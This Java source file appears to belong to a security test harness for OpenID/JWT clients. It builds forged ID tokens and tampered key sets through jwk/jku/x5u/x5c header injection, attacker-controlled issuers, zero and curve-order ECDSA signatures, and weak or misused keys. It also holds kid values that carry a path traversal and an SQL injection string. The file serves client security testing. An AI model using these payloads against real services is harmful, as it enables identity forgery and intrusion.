package io.github.psc4j.attack.internal;

import static io.github.psc4j.mock.journal.Operation.KEYS;

import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.KeyUse;
import io.github.psc4j.attack.report.Attack.Expectation;
import io.github.psc4j.mock.extension.CompactJws;
import io.github.psc4j.mock.extension.JsonResponses;
import io.github.psc4j.mock.extension.JwsSigner;
import java.math.BigInteger;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.security.cert.CertificateEncodingException;
import java.security.interfaces.ECPublicKey;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;

/** Keys that a token brings along or points at, and key sets with other keys than they should have. */
final class KeyAttacks {

    private static final String FORGED = "anybody can make an ID token of any person";
    private static final String FETCHED = "a token makes the client call addresses inside its own network";
    /** The order of the curve P-256. */
    private static final BigInteger ORDER =
            new BigInteger("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551", 16);

    private KeyAttacks() {}

    static List<AttackPlan> all() {
        List<AttackPlan> all = new ArrayList<>(List.of(
                foreign(
                        "V05-jwk-header",
                        "brings the attacker's key along in the header jwk",
                        (context, token) -> token.withHeader(
                                "jwk", context.attacker().rsa().toPublicJWK().toJSONObject())),
                foreign(
                        "V05-jku-header",
                        "points at the attacker's keys with the header jku",
                        (context, token) -> token.withHeader(
                                "jku", context.attackerKeySet("jku").toString())),
                AttackPlan.of(
                                "V05-x5u-header",
                                "points at the attacker's certificate with the header x5u",
                                FORGED,
                                "CVE-2018-0114, RFC 8725 3.10")
                        .idToken((context, token) -> certified(
                                context,
                                token.withHeader(
                                        "x5u",
                                        context.attackerUri("x5u", "application/x-pem-file", pem(context))
                                                .toString()))),
                AttackPlan.of(
                                "V05-x5c-header",
                                "brings the attacker's certificate along in the header x5c",
                                FORGED,
                                "CVE-2018-0114")
                        .idToken((context, token) -> certified(
                                context,
                                token.withHeader(
                                        "x5c", List.of(Base64.getEncoder().encodeToString(der(context)))))),
                AttackPlan.of(
                                "V05-addresses-in-a-good-token",
                                "adds jku and x5u to an ID token that is in order",
                                FETCHED,
                                "RFC 8725 3.10",
                                Expectation.NO_REQUEST)
                        .idToken((context, token) -> token.withHeader(
                                        "jku", context.attackerKeySet("jku").toString())
                                .withHeader("x5u", context.attackerUri("x5u").toString())
                                .signed(context.providerSigner())
                                .compact()),
                AttackPlan.of(
                                "V07-unknown-critical-header",
                                "marks a header as critical that the client cannot know",
                                "the client ignores a restriction that the issuer put on the token",
                                "CVE-2025-59420, RFC 7515 4.1.11")
                        .idToken((context, token) -> token.withHeader("crit", List.of("urn:example:bound"))
                                .withHeader("urn:example:bound", true)
                                .signed(context.providerSigner())
                                .compact()),
                AttackPlan.of(
                                "V15-key-of-the-issuer-in-the-token",
                                "names the attacker as the issuer, where discovery and keys of the attacker lie",
                                FORGED,
                                "GHSA-869p-cjfg-cm3x, RFC 8725 3.8")
                        .idToken(KeyAttacks::ofTheAttackersIssuer),
                kid("V16-kid-as-a-path", "../../../../../../dev/null", new byte[1]),
                kid("V16-kid-as-a-query", "x' UNION SELECT 'key'--", "key".getBytes(StandardCharsets.US_ASCII)),
                foreign(
                        "V16-kid-as-an-address",
                        "uses an address as the kid, where the attacker's keys lie",
                        (context, token) -> token.withHeader(
                                "kid", context.attackerKeySet("kid").toString()))));
        all.addAll(keySets());
        return all;
    }

    private static List<AttackPlan> keySets() {
        return List.of(
                AttackPlan.of(
                                "V06-no-keys",
                                "publishes no key at all and brings the attacker's along in the token",
                                FORGED,
                                "CVE-2026-27962")
                        .on(KEYS, (context, request, response) -> JsonResponses.with(response, "keys", List.of()))
                        .idToken((context, token) -> token.withHeader(
                                        "jwk",
                                        context.attacker().rsa().toPublicJWK().toJSONObject())
                                .signed(context.attacker().signer())
                                .compact()),
                AttackPlan.of(
                                "V06-only-an-encryption-key",
                                "publishes only its key for encryption and signs with it",
                                "a key serves a purpose that it was not made for",
                                "CVE-2026-27962, RFC 7517 4.2")
                        .on(
                                KEYS,
                                (context, request, response) -> JsonResponses.with(
                                        response,
                                        "keys",
                                        List.of(context.encryptionKey()
                                                .toPublicJWK()
                                                .toJSONObject())))
                        .idToken(KeyAttacks::byEncryptionKey),
                AttackPlan.of(
                                "N01-encryption-key-signs",
                                "signs with the key that is published for encryption",
                                "a key serves a purpose that it was not made for",
                                "RFC 7517 4.2")
                        .idToken(KeyAttacks::byEncryptionKey),
                ecdsa("V08-ecdsa-zeros", "r and s of zero", new byte[64]),
                ecdsa("V08-ecdsa-order", "r and s of the curve's order", twice(ORDER)),
                AttackPlan.of(
                                "V17-weak-key",
                                "publishes an RSA key of 1024 bits beside its own, and signs with it",
                                "whoever factors the key can make an ID token of any person",
                                "RFC 7518 3.3")
                        .on(
                                KEYS,
                                (context, request, response) -> JsonResponses.changed(
                                        response,
                                        set -> withKey(
                                                set,
                                                use(context.attacker()
                                                        .weak()
                                                        .toPublicJWK()
                                                        .toJSONObject()))))
                        .idToken((context, token) -> token.withHeader("kid", "weak")
                                .signed(context.attacker().weakSigner())
                                .compact()));
    }

    private static AttackPlan foreign(
            String id, String action, BiFunction<AttackContext, CompactJws, CompactJws> header) {
        return AttackPlan.of(id, action, FORGED, id.startsWith("V05") ? "CVE-2018-0114" : "RFC 8725 3.10")
                .idToken((context, token) -> header.apply(
                                context,
                                token.withHeader("kid", context.attacker().rsa().getKeyID()))
                        .signed(context.attacker().signer())
                        .compact());
    }

    private static AttackPlan kid(String id, String kid, byte[] key) {
        return AttackPlan.of(id, "uses the kid " + kid + " and signs with what lies there", FORGED, "RFC 8725 3.10")
                .idToken((context, token) -> token.withHeader("kid", kid)
                        .withHeader("alg", "HS256")
                        .signed(JwsSigner.hmac(key))
                        .compact());
    }

    /** Where a client finds keys by the issuer that a token names, it must find some. */
    private static String ofTheAttackersIssuer(AttackContext context, CompactJws token) {
        URI keys = context.attackerKeySet("keys");
        String issuer = context.attackerUri("issuer").toString();
        for (String document : List.of("wallet-openid-configuration", "openid-configuration")) {
            context.attackerDocument(
                    "issuer/.well-known/" + document, Map.of("issuer", issuer, "jwks_uri", keys.toString()));
        }
        return token.withHeader("kid", context.attacker().rsa().getKeyID())
                .withClaim("iss", issuer)
                .signed(context.attacker().signer())
                .compact();
    }

    private static String byEncryptionKey(AttackContext context, CompactJws token) {
        return token.withHeader("kid", context.encryptionKey().getKeyID())
                .signed(Rsa.signer(context.encryptionKey()))
                .compact();
    }

    private static AttackPlan ecdsa(String id, String what, byte[] signature) {
        return AttackPlan.of(
                        id, "publishes an elliptic key and sends a signature with " + what, FORGED, "CVE-2022-21449")
                .on(
                        KEYS,
                        (context, request, response) -> JsonResponses.changed(
                                response,
                                set -> withKey(
                                        set,
                                        new ECKey.Builder(Curve.P_256, (ECPublicKey) context.attacker()
                                                        .elliptic()
                                                        .getPublic())
                                                .keyID("elliptic")
                                                .keyUse(KeyUse.SIGNATURE)
                                                .build()
                                                .toJSONObject())))
                .idToken((context, token) -> token.withHeader("kid", "elliptic")
                        .withHeader("alg", "ES256")
                        .withSignature(CompactJws.encode(signature))
                        .compact());
    }

    private static byte[] twice(BigInteger number) {
        byte[] bytes = number.toByteArray();
        byte[] signature = new byte[64];
        System.arraycopy(bytes, bytes.length - 32, signature, 0, 32);
        System.arraycopy(bytes, bytes.length - 32, signature, 32, 32);
        return signature;
    }

    private static String certified(AttackContext context, CompactJws token) {
        return token.withHeader("kid", "attacker")
                .signed(JwsSigner.rs256(context.attacker().certified().privateKey()))
                .compact();
    }

    private static byte[] der(AttackContext context) {
        try {
            return context.attacker().certified().certificate().getEncoded();
        } catch (CertificateEncodingException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String pem(AttackContext context) {
        return context.attacker().certified().certificatePem();
    }

    private static Map<String, Object> use(Map<String, Object> key) {
        Map<String, Object> copy = new HashMap<>(key);
        copy.put("use", "sig");
        copy.put("alg", "RS256");
        return copy;
    }

    private static Map<String, Object> withKey(Map<String, Object> set, Map<String, Object> key) {
        List<Object> keys = new ArrayList<>((List<?>) set.get("keys"));
        keys.add(key);
        set.put("keys", keys);
        return set;
    }
}
